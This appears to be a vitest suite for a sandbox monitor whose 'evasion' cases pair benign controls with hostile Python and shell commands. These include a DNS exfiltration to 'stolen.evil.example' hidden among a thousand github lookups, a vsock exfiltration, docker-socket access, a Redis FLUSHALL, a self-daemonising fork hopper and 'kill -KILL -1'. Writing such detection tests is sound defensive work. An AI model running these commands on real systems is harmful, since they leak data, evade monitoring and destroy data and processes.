import type { Rehearsal } from '@drylane/proto/rehearsal';
import { expect } from 'vitest';
import { family } from './pair.ts';

const python = (...lines: readonly string[]): string => `python3 -c '${lines.join('\n')}'; true`;

const QUERY = 'b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x04evil\\x07example\\0\\0\\x01\\0\\x01"';

/** Sends a datagram to an address whose family says that there is none; for datagrams the kernel takes it as IPv4. */
const WITHOUT_FAMILY = python(
  'import ctypes, socket, struct',
  's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
  'a = struct.pack("<H", 0) + struct.pack("!H", 53) + socket.inet_aton("192.0.2.7") + bytes(8)',
  `d = ${QUERY}`,
  'ctypes.CDLL(None).sendto(s.fileno(), d, len(d), 0, a, 16)',
);

/** Live, the bind fails because the engine is there, and the connection reaches it. */
const BOUND_AND_GONE = python(
  'import os, socket',
  'p = "/tmp/docker.sock"',
  'socket.socket(socket.AF_UNIX).bind(p); os.unlink(p)',
  'os.chdir("/var/run")',
  'try: socket.socket(socket.AF_UNIX).connect("docker.sock")',
  'except OSError: pass',
);

const BOUND_AND_CLOSED = python(
  'import socket',
  's = socket.socket(); s.bind(("127.0.0.1", 5432)); s.close()',
  'try: socket.create_connection(("127.0.0.1", 5432))',
  'except OSError: pass',
);

const FAST_OPEN = python(
  'import socket',
  's = socket.socket()',
  'for option in (30, 34):',
  '  try: s.setsockopt(6, option, 1)',
  '  except OSError: pass',
  'try: s.connect(("127.0.0.1", 6379)); s.send(b"FLUSHALL")',
  'except OSError: pass',
);

const MANY = python(
  'import socket',
  's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
  'def ask(name):',
  '  q = b"".join(bytes([len(l)]) + l for l in name.encode().split(b"."))',
  '  s.sendto(b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0" + q + b"\\0\\0\\x01\\0\\x01", ("127.0.0.1", 53))',
  'for i in range(1100): ask("h%d.github.com" % i)',
  'ask("stolen.evil.example")',
);

const HOPPER = python(
  'import os, signal, time',
  'signal.signal(signal.SIGCHLD, signal.SIG_IGN)',
  'if os.fork(): time.sleep(0.1); os._exit(0)',
  'os.setsid()',
  'n = os.open("/dev/null", os.O_RDWR)',
  'for fd in (0, 1, 2): os.dup2(n, fd)',
  'end = time.time() + 20',
  'while time.time() < end:',
  '  if os.fork(): os._exit(0)',
);

const BY_FILE = python(
  'import fcntl, os, signal, time',
  'victim = int(open("/proc/%d/stat" % os.getppid()).read().rsplit(")", 1)[1].split()[1])',
  'r, w = os.pipe()',
  'for command, value in ((fcntl.F_SETOWN, victim), (10, signal.SIGKILL), (fcntl.F_SETFL, os.O_ASYNC)):',
  '  try: fcntl.fcntl(r, command, value)',
  '  except OSError as refused: print("refused", command)',
  'os.write(w, b"x"); time.sleep(0.05)',
  'os.kill(victim, 0); print("still there")',
);

function attempts({ evidence }: Rehearsal): string[] {
  return evidence.network.map(
    ({ protocol, host, address, port }) => `${protocol} ${host ?? address} ${port}`,
  );
}

family('evasion', (hostile) => {
  const undeclared = { finds: ['undeclared-network'] };
  const own = python(
    'import socket',
    's = socket.socket(); s.bind(("127.0.0.1", 5432)); s.listen()',
    'socket.create_connection(("127.0.0.1", 5432))',
  );
  hostile(
    'an address that hides where it leads',
    { control: own, attack: WITHOUT_FAMILY, ...undeclared },
    'no family',
  );
  hostile(
    'an address that hides where it leads',
    {
      control: own,
      attack: BOUND_AND_GONE,
      ...undeclared,
      denied: (r) => expect(attempts(r)).toEqual(['unix docker.sock null']),
    },
    'a name that was bound',
  );
  hostile(
    'an address that hides where it leads',
    {
      control: own,
      attack: BOUND_AND_CLOSED,
      ...undeclared,
      denied: (r) => expect(attempts(r)).toEqual(['tcp 127.0.0.1 5432']),
    },
    'a port that was bound',
  );
  hostile(
    'an address that hides where it leads',
    {
      control: own,
      attack: FAST_OPEN,
      ...undeclared,
      denied: (r) => expect(attempts(r)).toEqual(['tcp 127.0.0.1 6379']),
    },
    'fast open',
  );
  hostile(
    'an address that hides where it leads',
    { control: own, attack: 'printf x >/dev/udp/127.0.0.53/53; true', ...undeclared },
    'a resolver of the live machine',
  );
  hostile('an undeclared host behind a thousand declared ones', {
    under: { network: ['*.github.com:443'], exits: [0, 6] },
    control: 'curl -s https://api.github.com/x',
    controlVerdict: 'hold',
    attack: MANY,
    finds: ['evidence-incomplete'],
  });
  hostile('exfiltration over vsock', {
    control: own,
    attack: python('import socket', 'socket.socket(40, socket.SOCK_STREAM).connect((2, 1024))'),
    finds: ['privileged-attempt'],
  });
  hostile('a daemon that hops from process to process', {
    control: 'python3 -c "import os; os.fork()"',
    attack: HOPPER,
    finds: ['leftover-process'],
  });
  hostile('signalling through a file', {
    control: 'true',
    attack: BY_FILE,
    harmless: true,
    denied: ({ evidence }) => {
      expect(evidence.stdout.text).toContain('refused 8');
      expect(evidence.stdout.text).toContain('refused 10');
    },
  });
  for (const signal of ['KILL', 'STOP', 'CONT', 'WINCH'])
    hostile(
      'signalling every process of the user',
      { control: 'kill -CONT $$', attack: `kill -${signal} -1; true`, finds: ['privileged-attempt'] },
      signal,
    );
});
